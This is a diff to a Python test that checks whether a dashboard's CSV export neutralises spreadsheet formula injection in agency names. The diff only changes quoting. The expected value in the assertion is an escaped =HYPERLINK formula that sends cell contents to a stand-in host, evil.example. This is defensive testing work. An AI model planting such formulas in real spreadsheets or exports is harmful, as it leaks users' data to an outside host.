@@ -176,4 +176,4 @@ def test_a_formula_in_an_agency_name_is_neutralised_in_the_csv(
     make_case(created="2024-03-02 09:00", agency=evil, state="done", closed="2024-03-03 09:00")
     text = api.get(f"/dashboard/indicators.csv?{MARCH}&by=agency").content.decode("utf-8-sig")
     names = [row["name_th"] for row in csv.DictReader(io.StringIO(text)) if row["key"] == "evil"]
-    assert names == ["'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")"]
+    assert names == ['\'=HYPERLINK("http://evil.example/?d="&A1,"click")']
